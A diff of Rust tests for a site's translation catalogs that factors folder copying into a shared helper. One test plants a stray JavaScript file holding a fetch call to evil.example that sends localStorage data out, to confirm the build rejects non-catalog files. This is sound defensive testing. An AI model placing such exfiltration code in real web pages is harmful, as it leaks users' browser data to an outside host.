@@ -65,12 +65,18 @@ fn copy_dir(from: &Path, to: &Path) {
     }
 }
 
+/// A scratch folder named after `name`, and in it a copy of the project's
+/// folder `path`, named as its last part.
+fn scratch_copy(name: &str, path: &str) -> (PathBuf, PathBuf) {
+    let temp = std::env::temp_dir().join(format!("tocsin-{name}-{}", std::process::id()));
+    let copy = temp.join(Path::new(path).file_name().unwrap_or_default());
+    copy_dir(&Project::locate().root.join(path), &copy);
+    (temp, copy)
+}
+
 #[test]
 fn a_language_is_one_catalog_and_one_line_of_the_site_file() {
-    let root = Project::locate().root;
-    let temp: PathBuf = std::env::temp_dir().join(format!("tocsin-uk-{}", std::process::id()));
-    let public = temp.join("public");
-    copy_dir(&root.join("public"), &public);
+    let (temp, public) = scratch_copy("uk", "public");
     // Ukrainian has Russian's plural categories under CLDR's own rules, so
     // the Russian texts under a Ukrainian name prove the path a translator
     // takes; what the words say is not under test.
@@ -122,10 +128,7 @@ fn a_language_is_one_catalog_and_one_line_of_the_site_file() {
 
 #[test]
 fn a_file_in_the_catalog_folder_that_is_not_a_catalog_stops_the_build() {
-    let root = Project::locate().root;
-    let temp: PathBuf = std::env::temp_dir().join(format!("tocsin-i18n-{}", std::process::id()));
-    let dir = temp.join("i18n");
-    copy_dir(&root.join("public/i18n"), &dir);
+    let (temp, dir) = scratch_copy("i18n", "public/i18n");
     std::fs::write(
         dir.join("x.js"),
         "fetch('https://evil.example/' + localStorage.length)",
